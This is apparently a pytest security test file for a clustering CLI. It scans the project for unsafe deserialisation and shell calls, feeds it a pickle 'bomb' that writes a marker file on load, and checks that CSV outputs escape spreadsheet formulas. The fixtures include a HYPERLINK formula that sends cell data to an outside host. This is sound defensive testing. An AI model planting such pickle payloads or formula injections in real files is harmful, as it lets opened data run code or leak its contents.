"""No file that a user names can run code: not here, and not in a spreadsheet that opens the outputs."""

import ast
import json
import pickle
from pathlib import Path

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from robust_eac.cli.output import NUMBER, as_read, as_written

from .conftest import CONSENSUS, LABELS, TRUTH, read_csv, run, write_csv

ROOT = Path(__file__).parents[2]
FOLDERS = ("robust_eac", "experiments", "paper_figures")
SOURCES = sorted(path for folder in FOLDERS for path in (ROOT / folder).rglob("*.py"))
# Modules that run what a file tells them to.
UNSAFE_MODULES = {"pickle", "cPickle", "dill", "cloudpickle", "shelve", "marshal", "yaml"}
UNSAFE_CALLS = {"eval", "exec", "os.system", "os.popen", "joblib.load", "pd.read_pickle", "pandas.read_pickle"}
NUMPY_LOADERS = {"np.load", "numpy.load", "np.lib.format.read_array", "np.lib.format.open_memmap"}


def unsafe(tree):
    """Yield what in a syntax tree could run the content of a file."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            modules = [node.module or ""] if isinstance(node, ast.ImportFrom) else [alias.name for alias in node.names]
            names = [f"{module}.{alias.name}" for module in modules for alias in node.names]
            yield from (module for module in modules if module.partition(".")[0] in UNSAFE_MODULES)
            yield from (name for name in names if name in UNSAFE_CALLS)
        elif isinstance(node, ast.Call):
            name, keywords = ast.unparse(node.func), {key.arg: ast.unparse(key.value) for key in node.keywords}
            if name in UNSAFE_CALLS or keywords.get("shell") == "True":
                yield name
            if name in NUMPY_LOADERS and keywords.get("allow_pickle") != "False":
                yield f"{name} without allow_pickle=False"


def test_nothing_read_from_a_file_is_run():
    assert len(SOURCES) > 100
    found = {path: list(unsafe(ast.parse(path.read_text(encoding="utf-8")))) for path in SOURCES}
    assert {path: what for path, what in found.items() if what} == {}
    for code in (
        *("import pickle", "from pickle import loads", "from joblib import load", "import dill as safe"),
        *("joblib.load(path)", "np.load(path)", "np.load(path, allow_pickle=True)", "eval(text)"),
        "subprocess.run(text, shell=True)",
    ):
        assert list(unsafe(ast.parse(code))), code


class Bomb:
    """What leaves a file behind when it is unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return Path.touch, (self.marker,)


@pytest.mark.parametrize("name", ["bomb.npy", "bomb.npz", "pickle.npy", "pickle.npz", "pickle.mat", "pickle.csv"])
def test_pickles_in_files_of_labels_are_not_loaded(tmp_path, capsys, name):
    path, marker, output = tmp_path / name, tmp_path / "exploded", tmp_path / "consensus.csv"
    bomb = Bomb(marker)
    if name.startswith("bomb"):
        array = np.array([[bomb, 1], [0, 1]], dtype=object)
        np.save(path, array) if name == "bomb.npy" else np.savez(path, labels=array)
    else:
        path.write_bytes(pickle.dumps(bomb))
    assert run(f"consensus {path} --n-clusters 2 --output {output}") == 2
    assert str(path) in capsys.readouterr().err
    assert not marker.exists()
    assert not output.exists()
    pickle.loads(pickle.dumps(bomb))
    assert marker.exists()


# A spreadsheet runs a cell that begins like this.
BEGINS_A_FORMULA = tuple("=+-@\t\r\n＝＋－＠")
NAMES = [
    *('=HYPERLINK("http://example.org?"&A1,"x")', "@SUM(1)", "+1+1", "-1+1", "-1,5", "-x", "--1", "-", "+ 1", "＝1+1"),
    *("1=1", "'name", "'", "name", 'a, "1"\n;é', "-1", "+2", "-0.5", "-1e-5", *(f"={i}" for i in range(11))),
]


@given(st.text("=+-@\t\r\n＝'1.e a", max_size=6) | st.text(max_size=6))
@example("''=")
@example("-1e-05")
@example("-12345678901234567890")
def test_no_text_is_written_as_a_formula_and_every_text_is_read_as_it_was(text):
    written = as_written(text)
    assert as_read(written) == text
    assert NUMBER.fullmatch(written) or not written.startswith(BEGINS_A_FORMULA)
    assert written == (
        text if NUMBER.fullmatch(text) or not text.lstrip("'").startswith(BEGINS_A_FORMULA) else f"'{text}"
    )


def test_names_that_look_like_formulas_go_through_every_command(folder, capsys):
    """From a file that holds them as they are to outputs that do not, and on to the next command."""
    features = np.random.RandomState(0).normal(10 * TRUTH[:, np.newaxis], 1.0, size=(30, 2))
    write_csv("f.csv", ["=who", "x", "y"], [*zip(NAMES, *features.T, strict=True)])
    write_csv("l.csv", ["=who", *NAMES[:8]], [*zip(NAMES, *LABELS.T, strict=True)])
    named = "--index-column =who"
    assert run(f"ensemble f.csv {named} --n-partitions 9 --n-clusters 3 --output e.csv") == 0
    written = "c.tsv --weights w.csv --membership m.csv --json s.json"
    assert run(f"consensus l.csv {named} {CONSENSUS} {written}") == 0

    cells = [as_written(name) for name in NAMES]
    assert [cell for cell in cells if cell.startswith(BEGINS_A_FORMULA)] == ["-1", "+2", "-0.5", "-1e-5"]
    for file, delimiter in (("e.csv", ","), ("m.csv", ","), ("c.tsv", "\t")):
        header, columns = read_csv(file, delimiter)
        assert (header[0], columns[0]) == ("'=who", tuple(cells)), file
    assert read_csv("w.csv")[1][0] == tuple(cells[:8])
    assert [row["partition"] for row in json.loads(Path("s.json").read_text())["partitions"]] == NAMES[:8]

    assert run(f"compare e.csv {named} --features f.csv --n-clusters 3 --consensus kmeans") == 0
    assert run(f"consensus e.csv {named} {CONSENSUS} again.csv") == 0
    assert read_csv("again.csv")[1][0] == tuple(cells)
    assert capsys.readouterr().err == ""
